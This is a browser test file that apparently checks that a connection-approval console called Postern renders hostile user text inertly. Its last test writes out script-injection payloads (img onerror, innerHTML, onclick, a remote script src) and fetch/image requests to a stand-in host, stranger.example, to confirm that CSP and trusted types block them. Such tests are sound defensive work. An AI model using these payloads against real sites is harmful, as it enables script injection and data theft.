import { people } from '../../../dev/console/people';
import type { ConnectionView } from '../../../src/console/api';
import { describeInBrowser } from '../../support/page/browser';
import { hostileTexts } from '../../support/page/hostile';
import {
  answerView,
  connectionHash,
  connectionId,
  heldView,
  historyItem,
  openItem,
  recentItem,
  ruleView,
} from '../../support/page/samples';
import { createPageSuite } from '../../support/page/suite';

/**
 * Elements that the page never has, links that lead elsewhere, and attributes with a stranger's text. The address
 * of a connection's own screen contains its encoded id, and nothing else may.
 */
const intruders = `(() => {
  const strange = [...document.querySelectorAll('main script, iframe, img, svg, form[action], base, meta[http-equiv], main style, main link, object, embed')];
  const links = [...document.querySelectorAll('a[href]')].filter(({ href }) =>
    !href.startsWith(location.origin + location.pathname + '#/') && !/^https:\\/\\/portal\\.azure\\.com\\/#resource\\/subscriptions\\/[\\w/.()-]+$/.test(href));
  const texts = [...document.querySelectorAll('main *, dialog *')].flatMap((each) =>
    each.getAttributeNames().filter((name) => !['href', 'datetime', 'value'].includes(name)).map((name) => each.getAttribute(name)));
  const marks = /stranger|hostile|\\u202e|safe|Postern approved|\\u0430/i;
  return [...strange.map(({ outerHTML }) => outerHTML), ...links.map(({ href }) => href), ...texts.filter((text) => marks.test(text))];
})()`;

/** Replaces halves of characters. */
const wellFormed = (text: string): string => Buffer.from(text).toString();

const isWide = 'document.documentElement.scrollWidth > document.documentElement.clientWidth';

/** A connection of which everything that a stranger may have chosen is one text. */
function hostileView(name: string, text: string): ConnectionView {
  const view = heldView(name);
  const odd = ['letters', 'invisible', 'imitation'] as const;
  return {
    ...view,
    connection: { ...view.connection, message: text, groupIds: [text], odd },
    endpoint: { id: `/subscriptions/${text}`, name: text, subscription: text, odd },
    target: { ...view.target, name: text, odd },
    inLists: [text],
    requesterProof: text,
    reason: text,
    why: text,
    expected: { by: text, until: text },
    rules: [
      ruleView({ rule: text, when: text, saw: [{ fact: `target.tags["${text}"]`, value: text }] }),
      ruleView({ rule: `missed ${text}`, outcome: 'missed', decided: false, falseParts: [text] }),
      ruleView({ rule: `failed ${text}`, outcome: 'failed', decided: false, problem: text }),
    ],
    answer: answerView({
      needed: 2,
      state: 'waits for a second person',
      answers: [{ ...answerView().answers[0]!, name: text, reason: text, ticket: text }],
    }),
    may: { approve: { ok: true }, reject: { no: text }, delete: { no: text } },
  };
}

describeInBrowser('what a stranger writes', () => {
  const suite = createPageSuite();

  test('is inert in the lists, and turns nothing beside it', async () => {
    const { world } = suite.app;
    hostileTexts.forEach((text, n) => {
      const item = {
        message: text,
        reason: text,
        rules: [`rule ${text.slice(0, 200)}`],
        endpoint: `/subscriptions/x/${text.slice(0, 200)}`,
        requesterSubscription: text.slice(0, 200),
      };
      world.open.push(openItem(`${n}-${text.slice(0, 200)}`, item));
      world.recent.push(recentItem(`${n}-${text.slice(0, 200)}`, { reason: text, by: text }));
    });
    const { page, wrongs } = await suite.visit(people.viewer);
    for (const hash of ['#/', '#/recent']) {
      await page.goto(suite.app.url + hash);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.getByRole('table').waitFor();
      expect(await page.getByRole('row').count()).toBe(hostileTexts.length + 1);
      expect(await page.evaluate(intruders)).toEqual([]);
    }
    // What reverses text ends where it began: the cell after it is read from left to right.
    expect(
      await page.evaluate(
        `[...document.querySelectorAll('bdi')].every((each) => getComputedStyle(each).unicodeBidi === 'isolate')`,
      ),
    ).toBe(true);

    expect(wrongs).toEqual([]);
  });

  test('is inert on the screen of its connection, and in the dialog', async () => {
    const { app, visit } = suite;
    const { page, wrongs } = await visit(people.approver);
    for (const [n, text] of hostileTexts.entries()) {
      const name = `${n}-${wellFormed(text.slice(0, 200))}`;
      const id = connectionId(name);
      app.world.views.set(id, hostileView(name, text));
      app.world.history.set(id, [historyItem({ reason: text, by: text, error: text, kind: text })]);
      await page.goto(app.url + connectionHash(name));
      await page.locator('blockquote, section .note').first().waitFor();
      await page.getByRole('table').waitFor();
      const found: unknown[] = [await page.evaluate(intruders)];
      const sentence = await page.locator('.sentence').textContent();
      const quoted = text === '' ? '' : await page.locator('blockquote bdi').textContent();
      await page.getByRole('button', { name: 'Approve …' }).click();
      await page.getByRole('dialog').waitFor();
      found.push(await page.evaluate(intruders), await page.evaluate(isWide), wrongs);
      expect([n, found, wellFormed(quoted ?? '')]).toEqual([n, [[], [], false, []], wellFormed(text)]);
      expect(sentence).toContain('approved it. 2 people must agree: 1 more.');
      await page.getByRole('button', { name: 'Cancel' }).click();
      await page.goto(`${app.url}#/working`);
      await page.getByText('Postern has nothing to do.').waitFor();
    }
  });

  test('a script that got in all the same could neither run nor send anything away', async () => {
    const { page, wrongs } = await suite.visit(people.viewer);
    const attacks = [
      `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hostile=1>')`,
      `document.body.innerHTML = '<b>x</b>'`,
      `document.body.setAttribute('onclick', 'hostile = 1')`,
      `Object.assign(document.createElement('script'), { src: 'https://stranger.example/x.js' })`,
    ];
    for (const attack of attacks) {
      const outcome = await page.evaluate(
        `(() => { try { ${attack}; return 'done'; } catch (error) { return error.name; } })()`,
      );
      expect([attack, outcome]).not.toEqual([attack, 'done']);
    }
    await page.evaluate(`fetch('https://stranger.example/?' + 1).catch(() => 0)`);
    await page.evaluate(`new Image().src = 'https://stranger.example/x.png'`);
    const framed = await page.evaluate(`new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.src = location.href;
      frame.onload = () => { try { done(frame.contentDocument.body.textContent); } catch { done('blocked'); } };
      document.body.append(frame);
    })`);
    expect(framed).not.toContain('Postern');
    // All of these were reported, which is what fails any other test.
    const reports = wrongs.splice(0).filter((wrong) => wrong.startsWith('CSP'));
    for (const directive of ['connect-src', 'img-src', 'require-trusted-types-for'])
      expect(reports.some((report) => report.includes(directive))).toBe(true);
    expect(wrongs.filter((wrong) => wrong.startsWith('a stranger'))).toEqual([]);
  });
});
